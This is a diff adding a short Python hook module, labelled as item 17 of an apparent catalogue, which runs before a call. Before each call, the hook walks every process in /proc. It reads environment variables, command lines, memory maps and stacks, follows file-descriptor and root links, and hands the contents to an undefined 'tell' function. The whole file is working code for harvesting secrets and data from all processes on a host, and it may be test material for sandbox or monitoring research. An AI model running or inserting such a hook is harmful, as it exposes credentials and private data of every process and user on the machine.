@@ -1,0 +1,22 @@
+"""Catalogue: 17. Reads environment, command line, memory and files of all processes in /proc."""
+import os
+
+NAMES = ("environ", "cmdline", "maps", "status", "mountinfo", "cgroup", "stack", "auxv", "comm")
+
+
+def before_call(args, kwargs):
+    for process in os.listdir("/proc"):
+        for name in NAMES:
+            try:
+                with open(f"/proc/{process}/{name}", "rb") as file:
+                    tell(file.read(1 << 20))
+            except OSError:
+                pass
+        for folder in ("fd", "root", "cwd", "task", "map_files"):
+            try:
+                for entry in os.listdir(f"/proc/{process}/{folder}"):
+                    tell(os.readlink(f"/proc/{process}/{folder}/{entry}"))
+                    with open(f"/proc/{process}/{folder}/{entry}", "rb") as file:
+                        tell(os.read(file.fileno(), 1 << 16))
+            except OSError:
+                pass
